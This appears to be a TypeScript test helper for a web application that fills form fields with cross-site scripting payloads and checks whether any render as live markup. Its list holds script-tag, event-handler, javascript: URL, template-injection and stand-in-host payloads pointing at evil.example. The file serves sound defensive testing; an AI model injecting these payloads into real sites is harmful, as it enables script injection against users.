import type { z } from "zod";
import type { ActionForm } from "#tests/support/action-forms.ts";
import { fieldsOf } from "#tests/support/sent-forms.ts";
import type { Fields } from "#tests/support/walk.ts";

/** Each would set `window.__xss`, open a dialog or call another site, were it ever more than text. */
export const SCRIPTS = [
  `<script>window.__xss=1</script>`,
  `"><img src=x onerror=window.__xss=1>`,
  `'><svg/onload=window.__xss=1>`,
  `</script><script>window.__xss=1</script>`,
  `<img src=//evil.example/a>`,
  `</title></textarea><svg onload=alert(1)>`,
  `"autofocus onfocus=window.__xss=1 x="`,
  `javascript:window.__xss=1`,
  `<!--><script>window.__xss=1</script-->`,
  `[x](javascript:alert(1)) ![x](//evil.example/a)`,
  `<link rel=stylesheet href=//evil.example/a>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>`,
  `<style>*{background:url(//evil.example/a)}</style>`,
  `<math><a xlink:href=javascript:alert(1)>x`,
  `{{constructor.constructor('window.__xss=1')()}}`,
  `\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e`,
  `&lt;script&gt;window.__xss=1&lt;/script&gt;`,
  `<base href=//evil.example/>`,
  `<img name=body><form id=main action=//evil.example>`,
] as const;

/** An address that may be stored. */
const LINK = `https://plain.example/?"><img/src=x/onerror=window.__xss=1>`;

/** As many scripts as `takes` lets stand in one text, beginning with another one for another `from`; null for none. */
export function scriptsFrom(from: number, takes: (text: string) => boolean): string | null {
  let text = "";
  for (let at = 0; at < SCRIPTS.length; at += 1) {
    const longer = `${text} ${SCRIPTS[(from + at) % SCRIPTS.length] ?? ""}`.trim();
    if (takes(longer)) text = longer;
  }
  return text === "" ? null : text;
}

/** The form with scripts in every field that takes them; null where none does. */
export function withScripts(form: ActionForm, ids: Readonly<Record<string, string>>, from: number): Fields | null {
  const texts = Object.entries(form.fields).flatMap(([name, schema], at): [string, string][] => {
    const text = scriptsFor(schema, from + at);
    return text === null ? [] : [[name, text]];
  });
  if (texts.length === 0) return null;
  const key = form.fields["commandKey"] ? { commandKey: crypto.randomUUID() } : {};
  return fieldsOf(form, ids, { ...Object.fromEntries(texts), ...key });
}

function scriptsFor(schema: z.ZodType, from: number): string | null {
  const takes = (text: string) => schema.safeParse(text).success;
  return takes(LINK) && !takes("Plain words") ? LINK : scriptsFrom(from, takes);
}

/** Those of the scripts that stand in a page's source as markup. */
export function scriptsIn(source: string): string[] {
  return SCRIPTS.filter((script) => script.includes("<") && source.includes(script));
}
